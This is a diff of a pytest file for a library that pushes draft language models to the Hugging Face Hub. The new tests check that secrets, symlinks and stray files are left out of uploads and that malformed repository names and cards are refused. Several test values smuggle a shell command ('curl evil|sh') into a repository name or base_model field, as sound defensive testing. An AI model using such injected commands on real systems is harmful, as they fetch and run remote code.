@@ -1,16 +1,18 @@
 """Push and load over real HTTP, by every route, with the package and without it; and everything that can go wrong."""
 
 import json
+import warnings
+from pathlib import Path
 
 import pytest
 import torch
-from huggingface_hub import HfApi, ModelCard
-from safetensors.torch import load_file
+from huggingface_hub import HfApi, ModelCard, snapshot_download
+from safetensors.torch import load_file, save_file
 from transformers import AutoConfig, AutoModel
 
 import tiny
-from dflash_hub import DFlashConfig, DFlashDraftModel, DFlashDraftSpec
-from dflash_hub.publishing import PublishOptions, publish
+from dflash_hub import DFlashConfig, DFlashDraftModel, DFlashDraftSpec, load_draft
+from dflash_hub.publishing import PublishOptions, plan, publish
 from dflash_hub.publishing import push as pushing
 from dflash_hub.publishing.probe import digests
 from paths import DATA, ROOT, TINY
@@ -304,6 +306,92 @@ def test_a_layout_that_cannot_be_written_makes_no_repository(hub, repo_id, draft
     assert hub.calls() == []
 
 
+@pytest.mark.parametrize("scale", [1.0, 2.5])
+def test_what_an_engine_does_not_read_is_named_by_the_push_and_on_the_card(hub, repo_id, scale, monkeypatch):
+    """SGLang knows no scale of the embeddings; nothing is said of a draft that has none."""
+    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)  # tested above, and slow
+    draft = tiny.draft(tiny.target("qwen3"), input_embedding_scale=scale, **tiny.SECOND)
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        draft.push_to_hub(repo_id, layouts=["hub"])
+        before = [str(warning.message) for warning in caught]
+        draft.push_to_hub(repo_id, layout="engines", revision="engines")
+    remark = "input_embedding_scale is 2.5, which SGLang (0.5.23) does not read"
+    assert not [message for message in before if "SGLang" in message]
+    assert sum(remark in str(warning.message) for warning in caught) == (scale != 1)
+    assert (remark in ModelCard.load(repo_id).text) == (scale != 1)
+    assert "\n\n\n" not in ModelCard.load(repo_id).text
+
+
+def test_publishing_names_what_an_engine_does_not_read(hub, repo_id, tmp_path, monkeypatch):
+    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)
+    tiny.draft(tiny.target("qwen3"), input_embedding_scale=2.5, **tiny.SECOND).save_pretrained(tmp_path)
+    with pytest.warns(UserWarning, match="SGLang") as caught:
+        publish(tmp_path, repo_id)
+    assert sum("SGLang" in str(warning.message) for warning in caught) == 1
+    assert b"SGLang (0.5.23) does not read" in files(hub, repo_id, "engines")["README.md"]
+
+
+QUANTISED = {
+    "compressed-tensors": {"quant_method": "compressed-tensors", "format": "float-quantized", "config_groups": {}},
+    "gptq": {"quant_method": "gptq", "bits": 4},
+    "modelopt": {"quant_algo": "NVFP4", "producer": {"name": "modelopt"}},
+    "empty": {},
+}
+
+
+def inherit(folder, quantization: dict) -> None:
+    """Write a `quantization_config` into the config.json of a draft."""
+    content = json.loads((folder / "config.json").read_text())
+    content["quantization_config"] = quantization
+    (folder / "config.json").write_text(json.dumps(content))
+
+
+@pytest.mark.parametrize("method", QUANTISED)
+@pytest.mark.parametrize("layout", ["hub", "engines"])
+def test_a_quantization_config_of_the_target_is_ignored_where_no_tensor_is_quantised(draft, tmp_path, layout, method):
+    draft.to(torch.bfloat16).save_pretrained(tmp_path, layout=layout, max_shard_size="20KB")
+    assert len([*tmp_path.glob("*.safetensors")]) > 1
+    inherit(tmp_path, QUANTISED[method])
+    ways = (
+        lambda: DFlashDraftModel.from_pretrained(tmp_path, block_size=3),
+        lambda: DFlashDraftSpec(tmp_path).load(block_size=3),
+        lambda: load_draft(tmp_path, block_size=3),
+        lambda: DFlashDraftModel.from_pretrained(tmp_path, config=DFlashConfig.from_pretrained(tmp_path, block_size=3)),
+    )
+    for load in ways:
+        with pytest.warns(UserWarning, match=r"has quantization_config \({.*none of its tensors is quantised"):
+            loaded = load()
+        assert digests(loaded) == digests(draft)
+        assert not hasattr(loaded.config, "quantization_config")
+        assert (loaded.config.block_size, loaded.dtype) == (3, torch.bfloat16)
+
+
+def test_a_draft_on_the_hub_with_the_targets_quantization_config_loads_and_is_pushed_without_it(
+    hub, repo_id, draft, tmp_path
+):
+    draft.save_pretrained(tmp_path)
+    inherit(tmp_path, QUANTISED["gptq"])
+    HfApi().create_repo(repo_id)
+    HfApi().upload_folder(repo_id=repo_id, folder_path=tmp_path)
+    with pytest.warns(UserWarning, match="none of its tensors is quantised"):
+        loaded = AutoModel.from_pretrained(repo_id)
+    assert digests(loaded) == digests(draft)
+    loaded.push_to_hub(repo_id)
+    assert "quantization_config" not in json.loads(files(hub, repo_id)["config.json"])
+
+
+@pytest.mark.parametrize("dtype", [torch.int8, torch.float8_e4m3fn])
+def test_a_draft_with_a_quantised_tensor_keeps_its_quantization_config(draft, tmp_path, dtype):
+    draft.save_pretrained(tmp_path)
+    inherit(tmp_path, {"quant_method": "compressed-tensors", "config_groups": {}})
+    weights = load_file(tmp_path / "model.safetensors")
+    weights["layers.0.mlp.up_proj.weight"] = weights["layers.0.mlp.up_proj.weight"].to(dtype)
+    save_file(weights, tmp_path / "model.safetensors", {"format": "pt"})
+    with pytest.raises(ImportError, match="compressed-tensors"):
+        DFlashDraftModel.from_pretrained(tmp_path)
+
+
 def test_damaged_weights_in_a_folder_say_so(draft, tmp_path):
     draft.save_pretrained(tmp_path)
     whole = (tmp_path / "model.safetensors").read_bytes()
@@ -332,7 +420,161 @@ def test_what_does_not_load_bit_equal_in_a_fresh_process_is_never_pushed(hub, re
     monkeypatch.setattr(pushing, "stage", spoil)
     with pytest.raises(ValueError, match=r"(?s)does not load in a fresh process.*spoilt"):
         publish(TINY / "draft", repo_id)
-    assert hub.calls() == []
+    assert {method for method, _, _ in hub.calls()} == {"GET"}  # the destination was asked, and nothing written
+
+
+SECRET = "hf_a_secret_of_the_owner"
+
+
+@pytest.fixture
+def crowded(tmp_path):
+    """A folder with a draft, and with more than a draft; and the path of a secret outside it."""
+    folder, secret = tmp_path / "draft", tmp_path / "secret.txt"
+    secret.write_text(SECRET)
+    tiny.draft(tiny.target("qwen3")).save_pretrained(folder)
+    (folder / "plot.png").write_bytes(b"\x89PNG\r\n\x1a\n and so on")
+    (folder / "leak.png").symlink_to(secret)
+    (folder / "notes.png").write_text(SECRET)
+    (folder / "optimizer.pt").write_text(SECRET)
+    (folder / ".env").write_text(SECRET)
+    (folder / "extra.py").write_text(f"TOKEN = {SECRET!r}")
+    (folder / "runs").mkdir()
+    (folder / "README.md").unlink()
+    (folder / "README.md").symlink_to(secret)
+    return folder
+
+
+def test_only_a_drafts_own_files_are_published_and_no_link_is_followed(hub, repo_id, crowded, monkeypatch):
+    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)
+    done = publish(crowded, repo_id)
+    for branch in ("main", "engines"):
+        published = files(hub, repo_id, branch)
+        assert "plot.png" in published
+        assert not {"leak.png", "notes.png", "optimizer.pt", ".env", "extra.py", "runs"} & set(published)
+        assert not [name for name, content in published.items() if content and SECRET.encode() in content]
+    reasons = {one.name: one.reason for one in done.left_out}
+    assert set(reasons) == {".env", "README.md", "extra.py", "leak.png", "notes.png", "optimizer.pt", "runs/"}
+    assert "a link" in reasons["leak.png"]
+    assert "a link" in reasons["README.md"]
+    assert "does not begin as such a picture" in reasons["notes.png"]
+
+
+def test_a_plan_lists_the_files_of_both_branches_with_their_sizes_and_writes_nothing(
+    hub, repo_id, crowded, monkeypatch
+):
+    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)
+    found = plan(crowded, repo_id)
+    assert found.repo_id == repo_id
+    assert set(found.files) == {"main", "engines"}
+    for sizes in found.files.values():
+        assert {"config.json", "model.safetensors", "README.md", "plot.png", *TRAVELLING} <= set(sizes)
+        assert sizes["model.safetensors"] == (crowded / "model.safetensors").stat().st_size
+    assert {method for method, _, _ in hub.calls()} == {"GET"}
+
+
+def test_a_link_of_the_hubs_own_cache_is_a_file_of_its_folder(hub, repo_id, draft, monkeypatch):
+    draft.push_to_hub(repo_id, layouts=["hub"])
+    folder = snapshot_download(repo_id)
+    assert (Path(folder) / "README.md").is_symlink()
+    monkeypatch.setattr(pushing, "check_staged", lambda draft, folder: None)
+    assert "README.md" not in {one.name for one in publish(folder, f"{repo_id}-2").left_out}
+
+
+def test_a_draft_is_pushed_in_both_layouts_unless_one_is_chosen(hub, repo_id, draft):
+    draft.push_to_hub(repo_id)
+    config = json.loads(files(hub, repo_id, "engines")["config.json"])
+    assert config["model_type"] == "qwen3"
+    assert_whole(hub, repo_id)
+    draft.push_to_hub(f"{repo_id}-1", layouts=["hub"])
+    assert set(hub.state.repos["models", f"{repo_id}-1"].branches) == {"main"}
+    draft.push_to_hub(f"{repo_id}-2", revision="mine")
+    assert "mine" in hub.state.repos["models", f"{repo_id}-2"].branches
+    with pytest.raises(ValueError, match="revision and create_pr name one branch"):
+        draft.push_to_hub(repo_id, layouts=["hub", "engines"], revision="mine")
+
+
+@pytest.mark.parametrize("private", [None, True])
+def test_private_towards_a_public_repository_is_refused_before_anything_is_written(hub, repo_id, draft, private):
+    HfApi().create_repo(repo_id, private=False)
+    before = len(hub.calls())
+    if private is None:
+        draft.push_to_hub(repo_id, private=private)
+        return
+    for push in (lambda: draft.push_to_hub(repo_id, private=True), lambda: publish_private(repo_id)):
+        with pytest.raises(ValueError, match=r"exists and is public.*Make the repository private first.*another name"):
+            push()
+    assert {method for method, _, _ in hub.calls()[before:]} == {"GET"}
+    draft.push_to_hub(f"{repo_id}-new", private=True)
+    draft.push_to_hub(f"{repo_id}-new", private=True)
+
+
+def publish_private(repo_id):
+    publish(TINY / "draft", repo_id, PublishOptions(private=True))
+
+
+@pytest.mark.parametrize(
+    ("name", "complaint"),
+    [
+        ('a/b"; curl evil|sh #', "cannot be named"),
+        ("a/b/c", "cannot be named"),
+        ("", "cannot be named"),
+        (None, "cannot be named"),
+        ("somebody-else/draft", "The token is of tester, who cannot write to somebody-else/draft"),
+    ],
+)
+def test_a_destination_that_cannot_be_is_refused_before_staging(hub, draft, name, complaint, monkeypatch):
+    monkeypatch.setattr(pushing, "stage", lambda *args: pytest.fail("staged"))
+    for push in (lambda: draft.push_to_hub(name), lambda: publish(TINY / "draft", name)):
+        with pytest.raises((ValueError, RuntimeError), match=complaint):
+            push()
+
+
+@pytest.mark.parametrize(
+    ("content", "complaint"),
+    [
+        (b"---\nlicense: [mit\n---\nWords", r"metadata of .*README.md.* cannot be read"),
+        ("---\nlicense: mit\n---\nÄ".encode("latin-1"), r"README.md is not written in UTF-8"),
+        (b"---\nmodel-index:\n- name: x\n  results:\n  - task:\n      type: a\n---\nWords", r"metadata of .*README.md"),
+    ],
+    ids=["broken YAML", "latin-1", "a model-index without a dataset"],
+)
+def test_a_card_that_cannot_be_read_is_named_and_nothing_is_written(hub, repo_id, tmp_path, content, complaint):
+    tiny.draft(tiny.target("qwen3")).save_pretrained(tmp_path)
+    (tmp_path / "README.md").write_bytes(content)
+    with pytest.raises(ValueError, match=complaint):
+        publish(tmp_path, repo_id)
+    assert {method for method, _, _ in hub.calls()} == {"GET"}
+    assert (tmp_path / "README.md").read_bytes() == content
+
+
+EVIL = 'a/b"; curl evil|sh #'
+
+
+def test_a_target_that_is_no_hub_id_reaches_no_line_of_code_of_the_card(hub, repo_id, draft, tmp_path, caplog):
+    draft.card_metadata = {"base_model": EVIL}
+    with pytest.raises(ValueError, match=r"base_model is .* which is not the Hub id of a model"):
+        draft.push_to_hub(repo_id)
+    draft.card_metadata = {}
+    draft.save_pretrained(tmp_path)
+    (tmp_path / "README.md").write_text(f"---\nbase_model: '{EVIL}'\nlicense: mit\n---\nBuy this\n")
+    DFlashDraftModel.from_pretrained(tmp_path).push_to_hub(repo_id)
+    card = (files(hub, repo_id)["README.md"] or b"").decode()
+    assert "curl" not in card
+    assert "license: mit" in card
+    assert "it is left out" in caplog.text
+
+
+@pytest.mark.parametrize("layout", ["hub", "engines"])
+def test_an_entry_that_names_the_code_of_another_repository_is_not_passed_on(hub, repo_id, draft, tmp_path, layout):
+    draft.save_pretrained(tmp_path, layout=layout)
+    content = json.loads((tmp_path / "config.json").read_text())
+    content["auto_map"]["AutoTokenizer"] = ["other/repo--tokenization.Tokenizer", None]
+    (tmp_path / "config.json").write_text(json.dumps(content))
+    DFlashDraftModel.from_pretrained(tmp_path).push_to_hub(repo_id)
+    for branch in ("main", "engines"):
+        written = json.loads(files(hub, repo_id, branch)["config.json"])["auto_map"]
+        assert set(written) <= {"AutoConfig", "AutoModel"}
+        assert not [value for value in written.values() if "--" in value]
 
 
 # What can go wrong -----------------------------------------------------------------------------------------------
@@ -443,7 +685,9 @@ def test_offline_without_a_cached_copy_says_so(hub, repo_id, draft, fresh_proces
 
 
 def test_a_push_without_the_right_to_is_refused_and_says_so(hub, repo_id, draft):
-    with pytest.raises(RuntimeError, match=r"(?s)401.*Log in with a token that may write there: hf auth login"):
+    with pytest.raises(
+        RuntimeError, match=r"(?s)Invalid user token.*Log in with a token that may write there: hf auth login"
+    ):
         draft.push_to_hub(repo_id, token="hf_wrong")
 
 
